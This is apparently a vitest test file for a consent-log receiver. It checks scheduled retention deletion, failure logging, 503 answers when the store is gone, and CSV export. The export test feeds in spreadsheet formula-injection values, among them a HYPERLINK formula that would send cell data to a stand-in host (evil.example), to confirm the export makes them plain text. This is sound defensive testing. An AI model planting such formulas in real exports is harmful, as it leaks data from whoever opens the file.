import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { createApp } from '../src/app.js';
import { NO_PROXY } from '../src/client-address.js';
import type { Log } from '../src/log.js';
import { scheduleRetention } from '../src/retention.js';
import type { StoredEntry } from '../src/entry.js';
import type { ConsentStore } from '../src/store/store.js';
import { STORES } from './stores.js';
import { entry } from './support/load.mjs';
import { ORIGIN, TOKEN } from './support/receiver.mjs';

/**
 * What keeps the receiver sound while it runs, on both stores: the retention schedule deleting
 * on its own clock, the answers when the store is gone, and an export a spreadsheet can open
 * without running what a visitor's entry carried.
 */
const DAY_MS = 86_400_000;
const config = { token: TOKEN, allowedOrigins: [ORIGIN], ratePerMinute: 0, globalRatePerMinute: 0, proxy: NO_PROXY, storePaths: true };

/** A log that keeps what it is told, as [level, msg, fields]. */
function keptLog(): { log: Log; lines: [string, string, Record<string, unknown>][] } {
  const lines: [string, string, Record<string, unknown>][] = [];
  return { lines, log: (level, msg, fields = {}) => void lines.push([level, msg, fields]) };
}

/** Polls, on the real clock, until `ready()`; fails naming `what` after 10 s. */
async function until(what: string, ready: () => boolean): Promise<void> {
  for (const end = performance.now() + 10_000; !ready(); await new Promise((r) => setTimeout(r, 10))) {
    if (performance.now() > end) throw new Error(`timed out waiting for ${what}`);
  }
}

/** An entry as an export holds it, received at `receivedAt` (epoch ms), from a page at `path`. */
const received = (n: number, receivedAt: number, path?: string): StoredEntry => {
  // load.mjs is plain JavaScript: its entries are valid ones, typed there only loosely.
  const sent = entry(n) as unknown as StoredEntry;
  return { ...sent, path: path ?? sent.path, receivedAt: new Date(receivedAt).toISOString(), origin: ORIGIN };
};

const ids = async (store: ConsentStore) => {
  const kept: string[] = [];
  for await (const e of store.range(null, null)) kept.push(e.id);
  return kept.sort();
};

describe.each(STORES)('the receiver in operation, on the $name store', (kind) => {
  /** A store for the tests that neither close it nor count what it holds. */
  let shared: ConsentStore;
  beforeAll(async () => {
    shared = await kind.open(await kind.place());
  }, 60_000);
  afterAll(() => shared?.close());
  afterEach(() => {
    vi.useRealTimers();
  });

  it('runs retention at start and then once a day, deleting each whole UTC day once it is past the period, until stopped', async () => {
    const store = await kind.open(await kind.place());
    try {
      // Noon UTC, so the day boundaries are known: retention takes whole UTC days (their seals then stand or expire whole).
      const start = Date.UTC(2026, 11, 6, 12);
      // Received on the day 10 days before the start, and on the start's own day.
      expect(await store.restore(received(1, start - 10 * DAY_MS - 3_600_000))).toBe(true);
      expect(await store.restore(received(2, start - 3_600_000))).toBe(true);
      // Only the schedule's clock is faked: the stores' own timers and I/O run as they do.
      vi.useFakeTimers({ toFake: ['setInterval', 'clearInterval', 'Date'], now: start });
      const { log, lines } = keptLog();
      const runs = () => lines.filter(([, msg]) => msg === 'retention');
      const stop = scheduleRetention(store, 30, log);
      await until('the run at start', () => runs().length === 1);
      expect(await ids(store)).toEqual([entry(1).id, entry(2).id]);

      // A day goes once 30 whole days lie between it and today: the first entry's on day 21, the second's on day 31.
      const leftAfter: Record<number, string[]> = {};
      for (let day = 1; day <= 31; day++) {
        vi.advanceTimersByTime(DAY_MS);
        await until(`the run on day ${day}`, () => runs().length === day + 1);
        if ([20, 21, 30, 31].includes(day)) leftAfter[day] = await ids(store);
      }
      expect(leftAfter).toEqual({ 20: [entry(1).id, entry(2).id], 21: [entry(2).id], 30: [entry(2).id], 31: [] });
      // Each run says what it deleted, and nothing else about the entries.
      expect(runs().map(([level, , fields]) => [level, fields.deleted])).toEqual(Array.from({ length: 32 }, (_, i) => ['info', i === 21 || i === 31 ? 1 : 0]));
      expect(runs().every(([, , fields]) => Object.keys(fields).sort().join() === 'deleted,retentionDays')).toBe(true);

      stop();
      // Stopped: no timer is left to run it again (and the receiver's shutdown does not wait for one).
      expect(vi.getTimerCount()).toBe(0);
    } finally {
      vi.useRealTimers();
      await store.close();
    }
  });

  it('a retention run that fails says so in the log, and the next day\'s runs as usual', async () => {
    const store = shared;
    vi.useFakeTimers({ toFake: ['setInterval', 'clearInterval', 'Date'] });
    const { log, lines } = keptLog();
    const failing = Object.create(store) as ConsentStore;
    let broken = true;
    failing.deleteReceivedBefore = (cutoff) => (broken ? Promise.reject(Object.assign(new Error('connection lost'), { name: 'ConnectionError' })) : store.deleteReceivedBefore(cutoff));
    const stop = scheduleRetention(failing, 30, log);
    try {
      await until('the failed run', () => lines.length === 1);
      expect(lines).toEqual([['error', 'retention failed', { error: 'ConnectionError' }]]);
      broken = false;
      vi.advanceTimersByTime(DAY_MS);
      await until('the next run', () => lines.length === 2);
      expect(lines[1]).toEqual(['info', 'retention', { retentionDays: 30, deleted: 0 }]);
    } finally {
      stop();
    }
  });

  it('/healthz answers 503 once the store is gone, and any route that needs it 503 too, naming no entry in the log', async () => {
    const store = await kind.open(await kind.place());
    const { log, lines } = keptLog();
    const app = createApp({ store, config, log });
    expect((await app.request('/healthz')).status).toBe(200);
    await store.close();

    const health = await app.request('/healthz');
    expect(health.status).toBe(503);
    expect(await health.json()).toEqual({ status: 'store unavailable' });

    const e = entry(1);
    const posted = await app.request('/v1/consents', { method: 'POST', headers: { Origin: ORIGIN, 'Content-Type': 'text/plain' }, body: JSON.stringify(e) });
    // 503, not 500: a sender keeps the entry and tries again later.
    expect(posted.status).toBe(503);
    expect(await posted.json()).toEqual({ error: 'the log is unavailable, try again later' });
    const read = await app.request(`/v1/consents/${e.id}`, { headers: { Authorization: `Bearer ${TOKEN}` } });
    expect(read.status).toBe(503);

    const unhandled = lines.filter(([, msg]) => msg === 'unhandled');
    expect(unhandled.map(([level, , fields]) => [level, fields.route])).toEqual([
      ['error', '/v1/consents'],
      ['error', '/v1/consents/:id'],
    ]);
    // The log line describes the failure, never the visitor: no consent id, no body.
    expect(JSON.stringify(lines)).not.toContain(e.id);
  });

  it('exports to CSV with every cell that a spreadsheet would run as a formula made plain text', async () => {
    const store = shared;
    const app = createApp({ store, config, log: () => {} });
    const now = Date.now();
    // Restored from an older export, so nothing in the entry is checked as a sender's post is.
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"klikk")', '+1+1', '-2+3', '@SUM(A1:A9)', '/vanlig'];
    for (const [i, path] of hostile.entries()) expect(await store.restore(received(100 + i, now, path))).toBe(true);
    const res = await app.request('/v1/consents?format=csv', { headers: { Authorization: `Bearer ${TOKEN}` } });
    expect(res.status).toBe(200);
    // Each row's cells as written, split at the commas outside quotes.
    const rows = (await res.text()).trim().split('\r\n').map((row) => row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    const column = rows[0]!.indexOf('path');
    const paths = rows.slice(1, -1).map((cells) => cells[column]);
    // Each begins with a quote mark, which a spreadsheet shows and does not run; the first is
    // also quoted as a whole (RFC 4180), for its commas, with its own quotes doubled.
    expect(paths).toEqual([`"'=HYPERLINK(""https://evil.example/?""&A1,""klikk"")"`, "'+1+1", "'-2+3", "'@SUM(A1:A9)", '/vanlig']);
  });
});
